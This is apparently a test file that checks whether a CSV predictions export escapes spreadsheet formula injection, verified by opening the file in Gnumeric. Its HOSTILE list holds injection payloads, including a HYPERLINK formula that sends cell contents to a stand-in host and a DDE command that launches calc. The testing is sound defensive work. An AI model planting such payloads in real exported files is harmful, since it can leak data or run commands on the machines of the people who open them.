import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { FORMATS } from '../../functions/batch/prediction-rows';
import { describeWith } from '../support/requirements';

/** Names that a spreadsheet would compute with, or send to somebody, if they stood in a cell as they are. */
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://a.example/?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  'a;=1+1',
  'a\n=1+1',
  "'=1+1",
  "=cmd|' /C calc'!A0",
];

interface Cell {
  readonly isFormula: boolean;
  readonly isNumber: boolean;
  readonly text: string;
}

// Gnumeric says of each value of which kind it is; what has none is a formula.
const NUMBER = '40';

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'headstart-spreadsheet-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** What Gnumeric takes each cell of a CSV file for. */
function opened(csv: string): Cell[] {
  const [file, out] = [join(folder, 'table.csv'), join(folder, 'table.xml')];
  writeFileSync(file, csv);
  // It keeps settings in the home, and wants no display.
  const env = { ...process.env, HOME: folder, XDG_CONFIG_HOME: folder, XDG_CACHE_HOME: folder, LC_ALL: 'C.UTF-8' };
  execFileSync('ssconvert', ['--export-type=Gnumeric_XmlIO:sax:0', file, out], { env, stdio: 'pipe' });
  const cells = readFileSync(out, 'utf8').matchAll(/<gnm:Cell ([^>]*)>([^<]*)<\/gnm:Cell>/g);
  return [...cells].map(([, attributes = '', text = '']) => {
    const kind = /ValueType="(\d+)"/.exec(attributes)?.[1];
    return { isFormula: kind === undefined, isNumber: kind === NUMBER, text };
  });
}

describeWith('spreadsheet', 'predictions.csv in a spreadsheet', () => {
  const { header, row } = FORMATS.csv;

  test('holds no formula, whatever files and classes are called', () => {
    const classes = [...HOSTILE];
    const probabilities = classes.map((_, i) => (i + 1) / 100);
    const rows = HOSTILE.flatMap((name, i) => [
      row({ file: name, probabilities: probabilities.toSpliced(i, 1, 0.9) }, classes),
      row({ file: name, error: name }, classes),
    ]);
    const cells = opened(header(classes) + rows.join(''));
    expect(cells.filter(({ isFormula }) => isFormula)).toEqual([]);
    // Names are there and are text; probabilities are numbers.
    expect(cells.filter(({ isNumber }) => isNumber)).toHaveLength(HOSTILE.length * (1 + classes.length));
    expect(cells.filter(({ text }) => text.includes('HYPERLINK')).length).toBeGreaterThanOrEqual(3);
  });

  test('would hold some if names were written as they are', () => {
    const cells = opened(HOSTILE.map((name) => `"${name.replaceAll('"', '""')}",1\n`).join(''));
    expect(cells.filter(({ isFormula }) => isFormula).length).toBeGreaterThanOrEqual(2);
  });
});
